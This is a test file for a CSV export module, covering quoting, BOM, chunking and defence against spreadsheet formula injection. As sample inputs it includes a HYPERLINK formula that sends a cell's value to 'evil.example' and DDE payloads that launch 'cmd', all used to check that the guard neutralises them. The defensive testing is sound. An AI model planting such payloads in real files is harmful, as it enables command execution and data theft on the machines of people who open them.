import { CSV_BOM, type CsvColumn, csvCell, csvLine, guardFormulas, toCsv } from '../../src/domain/csv';
import { chunkCsv } from '../../src/services/exports';
import { parseCsv, parseCsvLeniently } from '../support/csvReader';

describe('csvCell (RFC 4180 quoting: every cell quoted)', () => {
  it.each([
    ['plain', '"plain"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line 1\nline 2', '"line 1\nline 2"'],
    ['line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['a\rb', '"a\rb"'],
    ['', '""'],
    ['  spaced  ', '"  spaced  "'],
  ])('%j → %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('writes an empty cell for undefined and null, and values for numbers, booleans and dates', () => {
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(-3.5)).toBe('"-3.5"'); // a number is a value, not a formula: no guard needed
    expect(csvCell(Number.NaN)).toBe('""');
    expect(csvCell(true)).toBe('"true"');
    expect(csvCell(new Date('2026-11-22T09:00:00Z'))).toBe('"2026-11-22T09:00:00.000Z"');
    expect(csvCell(new Date('nonsense'))).toBe('""');
  });

  it('keeps unicode as it is (the file is UTF-8 with a BOM)', () => {
    expect(csvCell('Zoë Ångström 🚀 日本')).toBe('"Zoë Ångström 🚀 日本"');
    expect(toCsv([{ header: 'name', value: (r: string) => r }], ['Zoë']).startsWith(CSV_BOM)).toBe(true);
  });
});

describe('csvCell (formula injection, with either list separator)', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tTAB', `"'\tTAB"`],
    ['\r=1', `"'\r'=1"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
    ['=HYPERLINK("http://evil.example","click")', '"\'=HYPERLINK(""http://evil.example"",""click"")"'],
    ["=cmd|' /C calc'!A0, x", `"'=cmd|' /C calc'!A0, x"`],
    // After a separator of either kind, a line break or a tab, past spaces and quotes.
    ['note;=1+2;', `"note;'=1+2;"`],
    ['a,@SUM(1)', `"a,'@SUM(1)"`],
    ['a; -1', `"a; '-1"`],
    ['a;"=1"', `"a;""'=1"""`],
    ['line\n+1', `"line\n'+1"`],
    ['line\r\n=1', `"line\r\n'=1"`],
    ['a\t=1', `"a\t'=1"`],
    [' =1', `" '=1"`],
  ])('%j → %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('triggers anywhere else are left alone', () => {
    expect(csvCell('a=1')).toBe('"a=1"');
    expect(csvCell('1-2')).toBe('"1-2"');
    expect(csvCell('me@example.com')).toBe('"me@example.com"');
    expect(csvCell('x, y; z')).toBe('"x, y; z"');
    expect(guardFormulas('Month end, batch 2')).toBe('Month end, batch 2');
  });
});

describe('toCsv', () => {
  interface Row {
    id: string;
    note?: string;
    count: number;
  }
  const columns: CsvColumn<Row>[] = [
    { header: 'id', value: (r) => r.id },
    { header: 'note', value: (r) => r.note },
    { header: 'count', value: (r) => r.count },
  ];

  it('BOM, header in column order, CRLF after every record, every cell quoted', () => {
    const text = toCsv(columns, [
      { id: 'a', note: 'x', count: 1 },
      { id: 'b', count: 2 },
    ]);
    expect(text).toBe(`${CSV_BOM}"id","note","count"\r\n"a","x","1"\r\n"b","","2"\r\n`);
  });

  it('an empty list is the header alone', () => {
    expect(toCsv(columns, [])).toBe(`${CSV_BOM}"id","note","count"\r\n`);
  });

  it('reads back cell for cell, whatever the text holds', () => {
    const nasty = ['a,b', 'she said "no"', 'two\nlines', 'cr\r\nlf', '=1+2', '-5', '@x', '\tt', '', 'Ünïcödé ✓'];
    const rows = nasty.map((note, i) => ({ id: `r${i}`, note, count: i }));
    const parsed = parseCsv(toCsv(columns, rows).slice(CSV_BOM.length));
    expect(parsed[0]).toEqual(['id', 'note', 'count']);
    expect(parsed.slice(1)).toEqual(rows.map((r) => [r.id, /^[=+\-@\t\r]/.test(r.note) ? `'${r.note}` : r.note, String(r.count)]));
  });

  it('csvLine quotes each cell', () => {
    expect(csvLine(['a', 'b,c', undefined, 3])).toBe('"a","b,c","","3"\r\n');
  });
});

// Hostile text as someone could type it in a justification or a name: every formula trigger at
// the start of a value and after each separator, with spaces and quotes before it, next to
// quotes and line breaks that put a lenient reader's quoting out of step.
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const PLACES = [
  (t: string) => `${t}1+2`,
  (t: string) => `note;${t}1+2;`,
  (t: string) => `a,${t}SUM(1)`,
  (t: string) => `a; ${t}1`,
  (t: string) => `a, "${t}1"`,
  (t: string) => `a;"${t}1";"`,
  (t: string) => `"${t}1`,
  (t: string) => ` ${t}1`,
  (t: string) => `x\n${t}1`,
  (t: string) => `x\r\n${t}1`,
  (t: string) => `x\r${t}1`,
  (t: string) => `a\t${t}1`,
  (t: string) => `;${t}`,
  (t: string) => `${t}${t}${t}`,
  (t: string) => `Zoë 🚀;${t}HYPERLINK("http://evil.example/?"&A1,"Pay")`,
];
const ENDINGS = ['a;', 'a,', 'a"', '"', '""', ';"', ',"', 'x\r', 'x\n', '', 'plain'];
const CORPUS = [...TRIGGERS.flatMap((t) => PLACES.map((place) => place(t))), ...ENDINGS, '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

/** What a spreadsheet could run: a cell whose first character (past spaces, line breaks and quotes) is a trigger, unless it is a plain number. */
function runsAsFormula(cell: string): boolean {
  const lead = cell.replace(/^[\s"]+/, '');
  return lead !== '' && [...TRIGGERS, '\n'].includes(lead[0]!) && !/^[+-]?\d+(\.\d+)?$/.test(lead);
}

describe('exports opened with either list separator (hostile corpus, Excel-like lenient reading)', () => {
  interface Row {
    id: string;
    a: string;
    b: string;
    n: number;
  }
  const columns: CsvColumn<Row>[] = [
    { header: 'id', value: (r) => r.id },
    { header: 'a', value: (r) => r.a },
    { header: 'b', value: (r) => r.b },
    { header: 'n', value: (r) => r.n },
  ];
  // Each value in column a, and next to every other value in b, so what ends one cell runs into the next.
  const rows: Row[] = CORPUS.flatMap((a, i) => CORPUS.map((b, j) => ({ id: `r${i}-${j}`, a, b, n: i - j })));
  const file = toCsv(columns, rows).slice(CSV_BOM.length);

  it('the corpus has every trigger at every place (the test is about something)', () => {
    expect(CORPUS.length).toBeGreaterThan(150);
    expect(CORPUS.filter((v) => runsAsFormula(v) || v.split(/[,;\t\r\n]/).some(runsAsFormula)).length).toBeGreaterThan(100);
  });

  it.each([
    [',', 'fieldStart'],
    [';', 'fieldStart'],
    [',', 'anywhere'],
    [';', 'anywhere'],
  ] as const)('read with %j as the separator, quotes honoured at the %s: no cell starts a formula', (separator, quotes) => {
    const cells = parseCsvLeniently(file, { separator, quotes }).flat();
    expect(cells.length).toBeGreaterThan(rows.length);
    expect(cells.filter(runsAsFormula)).toEqual([]);
  });

  it('without the guard the same reading finds formulas (so the check above can fail)', () => {
    const unguarded = rows.map((r) => [r.id, r.a, r.b, String(r.n)].map((v) => `"${v.replace(/"/g, '""')}"`).join(',')).join('\r\n');
    expect(parseCsvLeniently(unguarded, { separator: ';', quotes: 'fieldStart' }).flat().filter(runsAsFormula).length).toBeGreaterThan(100);
    expect(parseCsvLeniently(unguarded, { separator: ',', quotes: 'fieldStart' }).flat().filter(runsAsFormula).length).toBeGreaterThan(10);
  });

  it('read with the right separator, every value comes back as written but for the added \'', () => {
    const strict = parseCsv(file);
    const lenient = parseCsvLeniently(file, { separator: ',', quotes: 'fieldStart' });
    expect(lenient).toEqual(strict);
    expect(strict).toHaveLength(rows.length + 1);
    strict.slice(1).forEach((cells, i) => {
      const row = rows[i]!;
      expect(cells[0]).toBe(row.id);
      expect(cells[3]).toBe(String(row.n));
      for (const [cell, value] of [[cells[1]!, row.a], [cells[2]!, row.b]] as const) {
        expect(cell.replace(/'/g, '')).toBe(value.replace(/'/g, '')); // only ' added
        expect(cell).toBe(guardFormulas(value));
      }
    });
  });
});

describe('chunkCsv (stored exports)', () => {
  const columns: CsvColumn<number>[] = [{ header: 'n', value: (n) => `row-${n}` }];

  it('cuts on record boundaries, and the chunks join to the whole file', () => {
    const rows = Array.from({ length: 100 }, (_, i) => i);
    const chunks = chunkCsv(columns, rows, 64);
    expect(chunks.length).toBeGreaterThan(5);
    expect(chunks.join('')).toBe(toCsv(columns, rows));
    for (const chunk of chunks) {
      expect(chunk.endsWith('\r\n')).toBe(true);
      expect(chunk.length).toBeLessThanOrEqual(64);
    }
  });

  it('one chunk for a small file, the header alone for no rows', () => {
    expect(chunkCsv(columns, [1, 2])).toEqual([toCsv(columns, [1, 2])]);
    expect(chunkCsv(columns, [])).toEqual([toCsv(columns, [])]);
  });
});
